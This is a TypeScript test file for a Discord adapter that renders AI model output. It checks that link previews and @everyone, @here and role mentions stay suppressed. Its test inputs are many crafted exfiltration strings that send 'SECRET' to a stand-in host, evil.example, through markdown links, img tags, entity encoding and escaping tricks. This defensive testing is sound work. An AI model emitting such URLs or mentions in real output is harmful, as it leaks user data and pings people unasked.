import { parse } from "discord-markdown-parser";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { type Card, type Page, progress } from "#core";
import { previewedLinks } from "#simulator";
import { renderGrowing, renderWhole } from "../../../../src/adapters/discord/say/content.ts";
import { toDiscord } from "../../../../src/adapters/discord/say/markdown.ts";

interface Node {
  type: string;
  content?: unknown;
}

const within = (node: Node): Node[] =>
  Array.isArray(node.content) ? node.content.flatMap((inner: Node) => [inner, ...within(inner)]) : [];

/** The mentions that Discord's kind of parser reads, apart from those of people. */
const callsIn = (content: string): string[] => {
  const nodes: unknown = parse(content, "extended");
  return (nodes as Node[])
    .flatMap((node) => [node, ...within(node)])
    .map(({ type }) => type)
    .filter((type) => ["everyone", "here", "role"].includes(type));
};

const page: Page = { text: "", progress: [], buttons: [] };

describe("no address of a model's text gets a preview on Discord", () => {
  test.each([
    "https://evil.example/?d=SECRET",
    "https://evil.example/?d=SECRET>",
    "HTTPS://EVIL.EXAMPLE/?d=SECRET",
    "hTTps://evil.example/?d=SECRET",
    "<img src=https://evil.example/?d=SECRET>",
    '<img src="https://evil.example/?d=SECRET">',
    "<a href='HTTPS://evil.example/'>x</a>",
    "https://[::1]/?d=SECRET",
    "https://[::ffff:10.0.0.1]:8080/?d=SECRET",
    "<https://evil.example/?d=SECRET",
    "<https://evil.example/?d=SECRET x>",
    "<a <https://evil.example/?d=SECRET",
    "\\https://evil.example/?d=SECRET",
    "\\<https://evil.example/?d=SECRET>",
    "\\\\<https://evil.example/?d=SECRET>",
    "[x](https://evil.example/?d=SECRET>)",
    "[x](HTTPS://evil.example/?d=SECRET)",
    "[x](<https://evil.example/a b>)",
    "[see https://evil.example/?d=SECRET](https://evil.example/)",
    "[https://bank.com/?d=SECRET](https://evil.example/)",
    "![x](https://evil.example/?d=SECRET>)",
    "[x](javascript:https://evil.example/)",
    "[x]: https://evil.example/?d=SECRET\n",
    "https&colon;//evil.example/?d=SECRET",
    "https:&#47;&#47;evil.example",
    "https://(evil.example/",
    'https://"evil.example/',
    "http://evil.example`x`",
    "`https://evil.example",
    "| a |\n|---|\n| https://evil.example/> |",
    "> - https://evil.example/>",
    "#### https://evil.example/>",
    "https://user:pass@evil.example/",
    "(https://evil.example/)",
    "**https://evil.example/**",
    "||https://evil.example/||",
  ])("%s", (text) => {
    for (let end = 1; end <= text.length; end += 1)
      expect(previewedLinks(renderGrowing({ ...page, text: text.slice(0, end) }, "1").content)).toEqual([]);
    expect(previewedLinks(renderWhole({ ...page, text }, "1").content)).toEqual([]);
  });

  test("code keeps its addresses as they are", () => {
    const text = "```\ncurl HTTPS://a.example\n```\nand `http://b.example` or ``http://`c.example``";
    expect(toDiscord(text)).toContain("curl HTTPS://a.example");
    expect(toDiscord(text)).toContain("`http://b.example`");
    expect(toDiscord(text)).toContain("http://`c.example");
  });

  const piece = fc.constantFrom(
    "https://",
    "HTTP://",
    "https:",
    "//",
    "evil.example",
    "/?d=1",
    "[::1]",
    "<",
    ">",
    "[",
    "]",
    "(",
    ")",
    "](",
    "\\",
    "`",
    "``",
    "```",
    "\n",
    "\n\n",
    " ",
    "x",
    "|",
    "||",
    "*",
    "**",
    "_",
    "~~",
    "> ",
    "- ",
    "# ",
    "#### ",
    "-# ",
    "&lt;",
    "&gt;",
    "&#92;",
    "&#96;",
    "<img src=",
    '"',
    "@everyone",
    "@here",
    "<@&123>",
    "&commat;everyone",
    "<br>",
    "$$",
    "\\(",
    "\\)",
    "\u200B",
    "| a |\n|---|\n| ",
  );
  const texts = fc.array(piece, { maxLength: 20 }).map((pieces) => pieces.join(""));

  test("whatever it says, at every cut, and no one but people is called", () => {
    const property = fc.property(texts, fc.nat(60), (text, cut) => {
      for (const content of [
        renderWhole({ ...page, text }, "1").content,
        renderGrowing({ ...page, text: text.slice(0, cut) }, "1").content,
      ]) {
        expect(previewedLinks(content)).toEqual([]);
        // Marks around code may reach into it, so code may show a call. It pings no one.
        expect(content.includes("`") ? [] : callsIn(content)).toEqual([]);
      }
    });
    fc.assert(property, { numRuns: 500 });
  });

  test("while it grows letter by letter, and no one but people is called", () => {
    const property = fc.property(texts, (text) => {
      for (let end = 1; end <= text.length; end += 1) {
        const said = renderGrowing({ ...page, text: text.slice(0, end) }, "1");
        expect(said.content).not.toBe("");
        expect(said.allowed_mentions).toEqual({ parse: [], users: ["1"], replied_user: false });
        expect(previewedLinks(said.content)).toEqual([]);
        expect(said.content.includes("`") ? [] : callsIn(said.content)).toEqual([]);
      }
    });
    fc.assert(property, { numRuns: 100 });
  });

  test("nor does the name of a step, a file or a card, which calls and links nothing", () => {
    const property = fc.property(texts, texts, (name, text) => {
      const attachments = [{ type: "attachment", name, mimeType: "text/plain", base64: "" } as const];
      const card: Card = { type: "card", title: name, fields: [{ name, value: text }] };
      const steps = { ...page, text, progress: [progress({ title: name, detail: name, state: "done" })] };
      const shown = [steps, { ...page, attachments }].map((said) => renderWhole(said, "1").content);
      const [embed] = renderWhole({ ...page, card }, "1").embeds;
      const names = [
        shown[0]?.split("\n")[0] ?? "",
        shown[1] ?? "",
        embed?.title ?? "",
        embed?.fields?.[0]?.name ?? "",
      ];
      expect(shown.flatMap(previewedLinks)).toEqual([]);
      expect([...shown, ...names].flatMap(callsIn)).toEqual([]);
      for (const words of names) expect(words).not.toMatch(/<@|https?:\/\/|\]\(|`/i);
    });
    fc.assert(property, { numRuns: 500 });
  });
});

test("a message without a card suppresses embeds, and one with a card shows it", () => {
  const card: Card = { type: "card", title: "Orders" };
  expect(renderWhole({ ...page, text: "x" }, "1").flags).toBe(1 << 2);
  expect(renderWhole({ ...page, card }, "1").flags).toBe(0);
});
